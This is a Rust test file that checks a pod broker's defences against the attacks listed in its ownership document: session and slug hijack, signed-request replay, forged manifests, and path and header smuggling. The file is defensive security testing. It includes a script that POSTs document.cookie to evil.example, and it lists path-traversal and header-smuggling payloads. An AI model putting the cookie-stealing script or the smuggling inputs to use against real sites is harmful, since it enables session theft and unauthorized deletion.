//! The table of attacks in docs/ownership.md: each row is a test of this name here, or of the name that it gives.

use std::time::Duration;

use base64::{Engine, prelude::BASE64_STANDARD};
use reqwest::{Method, StatusCode, header::HeaderMap};

use super::proof::{BROKER, HOST, Owner, UP, broker, later};
use crate::support::{
    frames,
    raw::{Answer, ask},
    server::TestServer,
};

/// A request written by hand, with these header fields.
async fn by_hand(server: &TestServer, line: &str, host: &str, headers: &HeaderMap) -> Answer {
    let mut request = format!("{line} HTTP/1.1\nHost: {host}\n");
    for (name, value) in headers {
        request += &format!("{name}: {}\n", value.to_str().unwrap());
    }
    ask(&server.address, &(request + "\n")).await
}

fn sentence(answer: &Answer) -> String {
    answer.json()["error"].as_str().unwrap().to_owned()
}

async fn is_there(server: &TestServer, slug: &str) -> bool {
    server.http.head(server.url(&format!("/{slug}"))).send().await.unwrap().status() == StatusCode::OK
}

#[tokio::test]
async fn hijack_of_a_session() {
    let server = broker("").await;
    let mut origin = server.origin("pod").await;
    let mut visitor = server.visitor(&mut origin, "pod", "s").await;
    let mut attacker = server.origin("evil").await;
    attacker.send(frames::answer("s", "EVIL")).await;
    attacker.nothing().await;
    origin.send(frames::answer("s", "ANSWER")).await;
    visitor.expect(frames::answer("s", "ANSWER")).await;
}

#[tokio::test]
async fn hijack_of_a_slug() {
    let server = broker("").await;
    let (owner, attacker) = (Owner::new(), Owner::new());
    let slug = server.store(owner.pod("mine").html()).await;
    let path = format!("/{slug}");
    let evil = attacker.pod("evil").html();
    let put = attacker.signed(&server, Method::PUT, &path, Some(&evil), later()).send().await.unwrap();
    assert_eq!(put.status(), StatusCode::FORBIDDEN);
    let delete = attacker.signed(&server, Method::DELETE, &path, None, later()).send().await.unwrap();
    assert_eq!(delete.status(), StatusCode::FORBIDDEN);
    let sentence = delete.text().await.unwrap();
    assert!(sentence.contains("belongs to another owner key"), "{sentence}");
    // With the owner's key named and the attacker's signature.
    let mut headers = attacker.signature(&Method::DELETE, BROKER, &path, None, later());
    let input = headers["signature-input"].to_str().unwrap().replace(&attacker.key(), &owner.key());
    headers.insert("signature-input", input.parse().unwrap());
    let answer = by_hand(&server, &format!("DELETE {path}"), HOST, &headers).await;
    assert_eq!(answer.status, StatusCode::UNAUTHORIZED);
    assert!(is_there(&server, &slug).await);
}

#[tokio::test]
async fn replay_of_a_signed_request() {
    let server = broker("").await;
    let owner = Owner::new();
    let slug = server.store(owner.pod("old").html()).await;
    let path = format!("/{slug}");
    let new = owner.pod("new").html();
    let put = owner.signed(&server, Method::PUT, &path, Some(&new), later());
    let replay = put.try_clone().unwrap();
    assert_eq!(put.send().await.unwrap().status(), StatusCode::OK);
    let newer = owner.pod("newer").html();
    let put = owner.signed(&server, Method::PUT, &path, Some(&newer), later());
    assert_eq!(put.send().await.unwrap().status(), StatusCode::OK);
    let replayed = replay.send().await.unwrap();
    assert_eq!(replayed.status(), StatusCode::UNAUTHORIZED);
    assert!(replayed.text().await.unwrap().contains("taken once already"));
    let served = server.http.get(server.url(&path)).send().await.unwrap().text().await.unwrap();
    assert_eq!(served, newer);

    let delete = owner.signed(&server, Method::DELETE, &path, None, later());
    let replay = delete.try_clone().unwrap();
    assert_eq!(delete.send().await.unwrap().status(), StatusCode::NO_CONTENT);
    assert_eq!(replay.send().await.unwrap().status(), StatusCode::UNAUTHORIZED);
}

/// A DELETE that reached the broker before a restart (or a restored backup) does not work after it.
#[tokio::test(flavor = "multi_thread")]
async fn replay_across_a_restart() {
    let directory = tempfile::tempdir().unwrap();
    let start = async || {
        let clock = gemmapod_signal::Clock::default();
        clock.set_ahead(UP);
        let config = crate::support::server::config(&format!("public_url = \"{BROKER}\""));
        let registry = gemmapod_signal::RedbRegistry::open(directory.path()).unwrap();
        let builder = gemmapod_signal::SignalServer::builder().config(config).registry(registry);
        (TestServer::from(builder.clock(clock.clone())).await, clock)
    };
    let owner = Owner::new();
    let (server, clock) = start().await;
    let slug = server.store(owner.pod("mine").html()).await;
    let headers = owner.signature(&Method::DELETE, BROKER, &format!("/{slug}"), None, later());
    server.stop().await;
    let (server, second_clock) = start().await;
    drop(clock);
    second_clock.pass(Duration::from_secs(30));
    let answer = by_hand(&server, &format!("DELETE /{slug}"), HOST, &headers).await;
    assert_eq!(answer.status, StatusCode::UNAUTHORIZED);
    assert!(sentence(&answer).contains("before the broker was up"), "{answer:?}");
    assert!(is_there(&server, &slug).await);
    server.stop().await;
}

#[tokio::test]
async fn a_body_that_is_not_the_one_that_was_signed() {
    let server = broker("").await;
    let owner = Owner::new();
    let slug = server.store(owner.pod("old").html()).await;
    let path = format!("/{slug}");
    let (signed, other) = (owner.pod("new").html(), owner.pod("other").html());
    let headers = owner.signature(&Method::POST, BROKER, "/pods", Some(&signed), later());
    let post = server.http.post(server.url("/pods")).headers(headers).header("content-type", "text/html");
    let answer = post.body(other.clone()).send().await.unwrap();
    assert_eq!(answer.status(), StatusCode::BAD_REQUEST);
    assert!(answer.text().await.unwrap().contains("the Content-Digest does not fit the body"));
    let headers = owner.signature(&Method::PUT, BROKER, &path, Some(&signed), later());
    let put = server.http.put(server.url(&path)).header("host", HOST).headers(headers);
    let put = put.header("content-type", "text/html");
    let answer = put.body(other).send().await.unwrap();
    assert_eq!(answer.status(), StatusCode::BAD_REQUEST);
    assert!(answer.text().await.unwrap().contains("the Content-Digest does not fit the body"));
    let served = server.http.get(server.url(&path)).send().await.unwrap().text().await.unwrap();
    assert_eq!(served, owner.pod("old").html());
}

/// A page with the manifest of `owner`, which is public, and a stranger's script.
fn phishing(owner: &Owner) -> String {
    let mut pod = owner.pod("mine");
    pod.before.insert_str(
        0,
        "<script>fetch('https://evil.example', { method: 'POST', body: document.cookie })</script>",
    );
    pod.html()
}

#[tokio::test]
async fn a_stolen_manifest_where_only_owners_may_upload() {
    let (alice, bob, stranger) = (Owner::new(), Owner::new(), Owner::new());
    let owners = format!("[uploads]\npolicy = \"owners\"\nowners = [\"{}\", \"{}\"]", alice.key(), bob.key());
    let server = broker(&owners).await;
    let html = phishing(&alice);
    let unsigned = server.upload(html.clone()).await;
    assert_eq!(unsigned.status(), StatusCode::UNAUTHORIZED);
    assert!(unsigned.headers()["accept-signature"].to_str().unwrap().contains("content-digest"));
    assert!(unsigned.text().await.unwrap().contains("gemmapod-signal pods put"));
    for (thief, sentence) in
        [(&stranger, "takes pods of certain owners only"), (&bob, "signed by another owner key")]
    {
        let post = thief.signed(&server, Method::POST, "/pods", Some(&html), later()).send().await.unwrap();
        assert_eq!(post.status(), StatusCode::FORBIDDEN);
        let body = post.text().await.unwrap();
        assert!(body.contains(sentence), "{body}");
    }
    // With the owner's name on the thief's signature, and with half a signature.
    let mut headers = bob.signature(&Method::POST, BROKER, "/pods", Some(&html), later());
    let input = headers["signature-input"].to_str().unwrap().replace(&bob.key(), &alice.key());
    headers.insert("signature-input", input.parse().unwrap());
    for remove in ["", "signature", "signature-input"] {
        let mut headers = headers.clone();
        headers.remove(remove);
        let post = server.http.post(server.url("/pods")).headers(headers).header("content-type", "text/html");
        assert_eq!(post.body(html.clone()).send().await.unwrap().status(), StatusCode::UNAUTHORIZED);
    }
    assert_eq!(listed(&server, &alice).await, []);
    let slug = alice.upload(&server, &alice.pod("mine").html()).await;
    assert_eq!(listed(&server, &alice).await, [(slug, "signed".to_owned())]);
}

/// The slugs in an owner's list, and how each was uploaded.
async fn listed(server: &TestServer, owner: &Owner) -> Vec<(String, String)> {
    let path = format!("/owner/{}/pods", owner.key());
    let list = owner.signed(server, Method::GET, &path, None, later()).send().await.unwrap();
    let list: serde_json::Value = list.json().await.unwrap();
    let text = |pod: &serde_json::Value, field: &str| pod[field].as_str().unwrap().to_owned();
    list["pods"].as_array().unwrap().iter().map(|pod| (text(pod, "id"), text(pod, "upload"))).collect()
}

#[tokio::test]
async fn a_stolen_manifest_where_anybody_may_upload() {
    let server = broker("signal.bind = \"uploads\"\nquotas.pods_per_owner = 1").await;
    let owner = Owner::new();
    let mut pod = owner.pod("mine");
    let reachable = owner.reachable("pod", "dartc");
    for _ in 0..3 {
        server.store(reachable.clone()).await;
    }
    // The pod id is nobody's yet, and the owner's quota is whole.
    drop(server.origin("pod").await);
    let genuine = owner.upload(&server, &pod.html()).await;
    let forged = server.store(phishing(&owner)).await;
    for (slug, upload) in [(&genuine, "signed"), (&forged, "unsigned")] {
        is_told(&server, slug, upload).await;
    }
    let unsigned = listed(&server, &owner).await.into_iter().filter(|(_, upload)| upload == "unsigned");
    let unsigned: Vec<_> = unsigned.map(|(slug, _)| slug).collect();
    assert!(unsigned.len() == 4 && unsigned.contains(&forged), "{unsigned:?}");
    // The manifest is the owner's: the owner deletes the page, or puts the right one in its place.
    for slug in &unsigned {
        let delete = owner.signed(&server, Method::DELETE, &format!("/{slug}"), None, later());
        assert_eq!(delete.send().await.unwrap().status(), StatusCode::NO_CONTENT);
    }
    let delete = owner.signed(&server, Method::DELETE, &format!("/{genuine}"), None, later());
    assert_eq!(delete.send().await.unwrap().status(), StatusCode::NO_CONTENT);
    let forged = server.store(phishing(&owner)).await;
    pod.after.push(' ');
    let put = owner.signed(&server, Method::PUT, &format!("/{forged}"), Some(&pod.html()), later());
    assert_eq!(put.send().await.unwrap().status(), StatusCode::OK);
    is_told(&server, &forged, "signed").await;
    // Now it counts: there is room for no other.
    let full = owner.signed(&server, Method::POST, "/pods", Some(&pod.html()), later()).send().await.unwrap();
    assert_eq!(full.status(), StatusCode::FORBIDDEN);
}

/// Each answer about the pod says how it was uploaded, with both versions of HTTP.
async fn is_told(server: &TestServer, slug: &str, upload: &str) {
    let url = server.url(&format!("/{slug}"));
    for client in
        [reqwest::Client::builder().http1_only(), reqwest::Client::builder().http2_prior_knowledge()]
    {
        let client = client.build().unwrap();
        let etag = client.head(&url).send().await.unwrap().headers()["etag"].clone();
        for (request, status) in [
            (client.get(&url), StatusCode::OK),
            (client.head(&url), StatusCode::OK),
            (client.get(&url).header("range", "bytes=0-9"), StatusCode::PARTIAL_CONTENT),
            (client.get(&url).header("if-none-match", etag), StatusCode::NOT_MODIFIED),
            (client.get(format!("{url}/meta")), StatusCode::OK),
            (client.head(format!("{url}/meta")), StatusCode::OK),
        ] {
            let answer = request.send().await.unwrap();
            assert_eq!(answer.status(), status);
            assert_eq!(answer.headers()["x-pod-upload"], upload, "{answer:?}");
        }
        let meta: serde_json::Value =
            client.get(format!("{url}/meta")).send().await.unwrap().json().await.unwrap();
        assert!(meta.get("upload").is_none() && meta.get("uploadSigned").is_none(), "{meta}");
    }
}

#[tokio::test]
async fn replay_of_a_signed_upload() {
    let server = broker("").await;
    let owner = Owner::new();
    let html = owner.pod("mine").html();
    let post = owner.signed(&server, Method::POST, "/pods", Some(&html), later());
    let replay = post.try_clone().unwrap();
    assert_eq!(post.send().await.unwrap().status(), StatusCode::OK);
    let replayed = replay.send().await.unwrap();
    assert_eq!(replayed.status(), StatusCode::UNAUTHORIZED);
    assert!(replayed.text().await.unwrap().contains("taken once already"));
    assert_eq!(listed(&server, &owner).await.len(), 1);
    // What was signed for one slug, or as another method, is no upload.
    for (method, path) in [(Method::PUT, "/pods"), (Method::POST, "/aaaaaaaaaaaa"), (Method::DELETE, "/pods")]
    {
        let headers = owner.signature(&method, BROKER, path, Some(&html), later());
        let post = server.http.post(server.url("/pods")).headers(headers).header("content-type", "text/html");
        assert_eq!(post.body(html.clone()).send().await.unwrap().status(), StatusCode::UNAUTHORIZED);
    }
    // Nor is a signature that leaves the body out.
    let headers = owner.signature(&Method::POST, BROKER, "/pods", None, later());
    let post = server.http.post(server.url("/pods")).headers(headers).header("content-type", "text/html");
    let answer = post.body(html).send().await.unwrap();
    assert_eq!(answer.status(), StatusCode::UNAUTHORIZED);
    assert!(answer.text().await.unwrap().contains("does not cover content-digest"));
    assert_eq!(listed(&server, &owner).await.len(), 1);
}

#[tokio::test]
async fn a_signature_over_too_few_components() {
    let server = broker("").await;
    let owner = Owner::new();
    let slug = server.store(owner.pod("mine").html()).await;
    let created = later().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs();
    for (covered, base, missing) in [
        ("()", String::new(), "@method"),
        ("(\"@method\")", "\"@method\": DELETE\n".into(), "@target-uri"),
        ("(\"@method\" \"@path\")", format!("\"@method\": DELETE\n\"@path\": /{slug}\n"), "@target-uri"),
        ("(\"@target-uri\")", format!("\"@target-uri\": {BROKER}/{slug}\n"), "@method"),
    ] {
        let input = format!("{covered};created={created};nonce=\"n\";keyid=\"{}\"", owner.key());
        let signed = owner.secret.sign(format!("{base}\"@signature-params\": {input}").as_bytes());
        let mut headers = HeaderMap::new();
        headers.insert("signature-input", format!("x={input}").parse().unwrap());
        headers.insert("signature", format!("x=:{}:", BASE64_STANDARD.encode(signed)).parse().unwrap());
        let answer = by_hand(&server, &format!("DELETE /{slug}"), HOST, &headers).await;
        assert_eq!(answer.status, StatusCode::UNAUTHORIZED, "{covered}");
        assert!(
            sentence(&answer).starts_with(&format!("the signature does not cover {missing}")),
            "{answer:?}"
        );
    }
    assert!(is_there(&server, &slug).await);
}

#[tokio::test]
async fn a_request_that_was_signed_for_another_broker() {
    let server = broker("").await;
    let owner = Owner::new();
    let slug = server.store(owner.pod("mine").html()).await;
    let headers =
        owner.signature(&Method::DELETE, "https://other.example.org", &format!("/{slug}"), None, later());
    for (host, status) in
        [("other.example.org", StatusCode::MISDIRECTED_REQUEST), (HOST, StatusCode::UNAUTHORIZED)]
    {
        let mut headers = headers.clone();
        headers.insert("x-forwarded-host", "other.example.org".parse().unwrap());
        headers.insert("forwarded", "host=other.example.org;proto=https".parse().unwrap());
        let answer = by_hand(&server, &format!("DELETE /{slug}"), host, &headers).await;
        assert_eq!(answer.status, status);
        let sentence = sentence(&answer);
        assert!(sentence.contains("to this broker are signed for https://pods.example.org"), "{sentence}");
    }
    let whole = by_hand(&server, &format!("DELETE https://other.example.org/{slug}"), HOST, &headers).await;
    assert!(whole.status.is_client_error(), "{whole:?}");
    assert!(is_there(&server, &slug).await);
}

/// The path of a pod with each character percent-encoded.
fn encoded(slug: &str) -> String {
    slug.bytes().fold("/".into(), |path, byte| path + &format!("%{byte:02X}"))
}

/// The fields of a DELETE that covers these components.
fn covering(owner: &Owner, nonce: &str, components: &[(&str, &str)]) -> HeaderMap {
    let created = later().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs();
    let names: Vec<_> = components.iter().map(|(name, _)| format!("\"{name}\"")).collect();
    let input =
        format!("({});created={created};nonce=\"{nonce}\";keyid=\"{}\"", names.join(" "), owner.key());
    let base: String = components.iter().map(|(name, value)| format!("\"{name}\": {value}\n")).collect();
    let signed = owner.secret.sign(format!("{base}\"@signature-params\": {input}").as_bytes());
    let mut headers = HeaderMap::new();
    headers.insert("signature-input", format!("x={input}").parse().unwrap());
    headers.insert("signature", format!("x=:{}:", BASE64_STANDARD.encode(signed)).parse().unwrap());
    headers
}

/// However a path is spelt, it is the pod that was signed that is deleted, and no other.
#[tokio::test]
async fn another_spelling_of_the_path() {
    let server = broker("").await;
    let owner = Owner::new();
    let there = "pods.example.org";
    for (spelt, signed, name, status) in [
        // To the letter.
        (true, true, "@target-uri", StatusCode::NO_CONTENT),
        (true, false, "@target-uri", StatusCode::UNAUTHORIZED),
        (false, true, "@target-uri", StatusCode::UNAUTHORIZED),
        // The normal form of RFC 9421, section 2.2.6, whatever a proxy made of it.
        (true, false, "@path", StatusCode::NO_CONTENT),
        (false, false, "@path", StatusCode::NO_CONTENT),
        (true, true, "@path", StatusCode::UNAUTHORIZED),
        (false, true, "@path", StatusCode::UNAUTHORIZED),
    ] {
        let (victim, slug) =
            (server.store(owner.pod("a").html()).await, server.store(owner.pod("b").html()).await);
        let path = |slug: &str, is_encoded| if is_encoded { encoded(slug) } else { format!("/{slug}") };
        let (request, signed_path) = (path(&slug, spelt), path(&slug, signed));
        let uri = format!("{BROKER}{signed_path}");
        let components = match name {
            "@target-uri" => vec![("@method", "DELETE"), ("@target-uri", &*uri)],
            _ => vec![("@method", "DELETE"), ("@authority", there), ("@path", &*signed_path)],
        };
        let headers = covering(&owner, &slug, &components);
        for other in [path(&victim, spelt), path(&victim, !spelt)] {
            let answer = by_hand(&server, &format!("DELETE {other}"), there, &headers).await;
            assert_eq!(answer.status, StatusCode::UNAUTHORIZED, "{other}");
        }
        let answer = by_hand(&server, &format!("DELETE {request}"), there, &headers).await;
        assert_eq!(answer.status, status, "{request} signed as {signed_path} by {name}: {answer:?}");
        assert_eq!(is_there(&server, &slug).await, status != StatusCode::NO_CONTENT);
        assert!(is_there(&server, &victim).await);
    }
}

#[tokio::test]
async fn smuggling_in_the_path() {
    let server = broker("").await;
    let owner = Owner::new();
    let (victim, bait) =
        (server.store(owner.pod("a").html()).await, server.store(owner.pod("b").html()).await);
    let headers = owner.signature(&Method::DELETE, BROKER, &format!("/{bait}"), None, later());
    for path in [
        format!("/{victim}"),
        format!("/{victim}?/{bait}"),
        format!("/{victim}#/{bait}"),
        format!("/{bait}/../{victim}"),
        format!("//{victim}"),
        format!("/./{victim}"),
        format!("/%2e/{victim}"),
        format!("/{bait}%2f..%2f{victim}"),
        format!("/{bait};/{victim}"),
        format!("/{victim}/"),
        format!("/{victim}%00"),
        format!("https://pods.example.org/{victim}"),
        encoded(&victim),
        format!("/%2f{victim}"),
        format!("/{bait}%2f%2e%2e%2f{victim}"),
        format!("/{}%00", &encoded(&victim)[1..]),
        // The pod itself, but not as it was signed with `@target-uri`.
        encoded(&bait),
    ] {
        let answer = by_hand(&server, &format!("DELETE {path}"), "pods.example.org", &headers).await;
        assert!(answer.status.is_client_error(), "{path}: {answer:?}");
        assert!(is_there(&server, &victim).await, "{path}");
        assert!(is_there(&server, &bait).await, "{path}");
    }
    // Nothing of this has used the signature up.
    let answer = by_hand(&server, &format!("DELETE /{bait}"), "pods.example.org", &headers).await;
    assert_eq!(answer.status, StatusCode::NO_CONTENT);
}

#[tokio::test]
async fn smuggling_in_the_header() {
    let server = broker("").await;
    let (owner, attacker) = (Owner::new(), Owner::new());
    let slug = server.store(owner.pod("mine").html()).await;
    let path = format!("/{slug}");
    let own = attacker.signature(&Method::DELETE, BROKER, &path, None, later());
    let theirs = owner.signature(&Method::GET, BROKER, &path, None, later());
    let both = |first: &HeaderMap, second: &HeaderMap, join: &str| {
        let mut headers = HeaderMap::new();
        for name in ["signature-input", "signature"] {
            let value = |headers: &HeaderMap| headers[name].to_str().unwrap().to_owned();
            match join {
                "twice" => {
                    headers.append(name, value(first).parse().unwrap());
                    headers.append(name, value(second).parse().unwrap());
                }
                _ => {
                    let second = value(second).replacen("sig1", join, 1);
                    headers.insert(name, format!("{}, {second}", value(first)).parse().unwrap());
                }
            }
        }
        headers
    };
    let right = || owner.signature(&Method::DELETE, BROKER, &path, None, later());
    for join in ["twice", "sig1", "sig2"] {
        // The last of them alone would be taken.
        for headers in [both(&own, &theirs, join), both(&theirs, &own, join), both(&own, &right(), join)] {
            let answer = by_hand(&server, &format!("DELETE {path}"), HOST, &headers).await;
            assert_eq!(answer.status, StatusCode::UNAUTHORIZED, "{answer:?}");
            assert!(sentence(&answer).starts_with("expected exactly one signature"), "{answer:?}");
        }
        // One field of the two is enough.
        for field in ["signature-input", "signature"] {
            let (mut headers, twice) = (right(), both(&own, &right(), join));
            headers.remove(field);
            for value in twice.get_all(field) {
                headers.append(field, value.clone());
            }
            let answer = by_hand(&server, &format!("DELETE {path}"), HOST, &headers).await;
            assert_eq!(answer.status, StatusCode::UNAUTHORIZED, "{answer:?}");
        }
    }
    assert!(is_there(&server, &slug).await);
    // A method that the client says it meant is not the method.
    let mut headers = owner.signature(&Method::DELETE, BROKER, &path, None, later());
    headers.insert("x-http-method-override", "DELETE".parse().unwrap());
    let answer = by_hand(&server, &format!("POST {path}"), HOST, &headers).await;
    assert!(answer.status.is_client_error(), "{answer:?}");
    let folded = format!(
        "DELETE {path} HTTP/1.1\nHost: {HOST}\nSignature-Input: sig1=()\n ;created=1\nSignature: sig1=:AA==:\n\n"
    );
    assert!(ask(&server.address, &folded).await.status.is_client_error());
    assert!(is_there(&server, &slug).await);
}
